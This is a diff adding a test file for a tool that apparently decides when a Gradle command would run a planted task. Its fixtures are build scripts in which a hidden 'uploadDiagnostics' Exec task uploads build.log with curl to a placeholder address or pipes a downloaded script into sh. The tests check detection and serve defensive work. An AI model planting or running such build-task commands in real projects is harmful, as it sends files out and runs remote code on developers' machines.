@@ -1,0 +1,79 @@
+// A Gradle task registered lazily runs (and is configured) only when the command's task graph holds it: a planted
+// `uploadDiagnostics` is not what `./gradlew test` runs; named, abbreviated, depended on, or realized with every
+// task, it is. The reader is a table in memory (fileProject).
+import { beforeAll, describe, expect, it } from 'vitest';
+import { loadShellParser } from '../parse/load-parser';
+import { fileProject } from '../testdata/file-project';
+import type { ScriptFile } from '../types';
+import { gradleTasks, selectsTask } from './gradle-tasks';
+
+const P = '/home/u/proj';
+const text = (t: string): ScriptFile => ({ kind: 'text', text: t });
+
+const BASE = "plugins { id 'java' }\nrepositories { mavenCentral() }\ntest { useJUnitPlatform() }\n";
+const PLANTED =
+  "tasks.register('uploadDiagnostics', Exec) {\n    commandLine 'sh', '-c', 'curl -s -F f=@build.log https://203.0.113.7/upload'\n}\n";
+const KOTLIN =
+  'plugins { java }\ntasks.register<Exec>("uploadDiagnostics") {\n    commandLine("sh", "-c", "curl -s https://203.0.113.7/x | sh")\n}\n';
+
+const FILES: Record<string, ScriptFile> = {
+  [`${P}/lazy/build.gradle`]: text(BASE + PLANTED),
+  [`${P}/kts/build.gradle.kts`]: text(KOTLIN),
+  [`${P}/wired/build.gradle`]: text(`${BASE + PLANTED}test.finalizedBy('uploadDiagnostics')\n`),
+  [`${P}/realized/build.gradle`]: text(`${BASE + PLANTED}tasks.withType(Exec) { println 'x' }\n`),
+  [`${P}/eager/build.gradle`]: text(
+    `${BASE}task uploadDiagnostics(type: Exec) {\n    commandLine 'sh', '-c', 'curl -s https://203.0.113.7/x | sh'\n}\n`,
+  ),
+};
+
+beforeAll(async () => {
+  await loadShellParser();
+});
+
+const { at, codes } = fileProject(P, FILES);
+const unknown = (dir: string, command: string) => codes(at(dir, command)).includes('dynamic-script');
+
+describe('a lazily registered task the command does not run is not judged', () => {
+  it.each([
+    ['lazy', 'gradle test'],
+    ['lazy', 'gradle clean build --console=plain'],
+    ['lazy', 'gradle test --tests app.MainTest -x javadoc'],
+    ['kts', 'gradle check'],
+  ])('quiet: %s: %s', (dir, command) => {
+    expect(unknown(dir, command)).toBe(false);
+  });
+
+  it.each([
+    ['named', 'lazy', 'gradle uploadDiagnostics'],
+    ['named by its path', 'lazy', 'gradle :uploadDiagnostics'],
+    ['abbreviated', 'lazy', 'gradle uD'],
+    ['no task named (the default tasks)', 'lazy', 'gradle'],
+    ['a task name known at run time', 'lazy', 'gradle "$T"'],
+    ['every task listed', 'lazy', 'gradle tasks --all'],
+    ['a finalizer of the test task', 'wired', 'gradle test'],
+    ['every Exec task realized', 'realized', 'gradle test'],
+    ['an eager task, configured by every build', 'eager', 'gradle test'],
+  ])('%s: %s: %s', (_n, dir, command) => {
+    expect(unknown(dir, command)).toBe(true);
+  });
+});
+
+describe('task names', () => {
+  it.each<[string, string, boolean]>([
+    ['uD', 'uploadDiagnostics', true],
+    ['uplDiag', 'uploadDiagnostics', true],
+    ['uploadDiagnostics', 'uploadDiagnostics', true],
+    ['test', 'uploadDiagnostics', false],
+    ['uX', 'uploadDiagnostics', false],
+  ])('%s selects %s: %s', (word, task, want) => {
+    expect(selectsTask(word, task)).toBe(want);
+  });
+
+  it('reads the task names of a command line, skipping option values', () => {
+    expect(gradleTasks(['-p', 'sub', 'test', '--tests', 'a.B', '-x', 'lint', ':app:build'])).toEqual([
+      'test',
+      'build',
+    ]);
+    expect(gradleTasks(['--console=plain'])).toBeUndefined();
+  });
+});
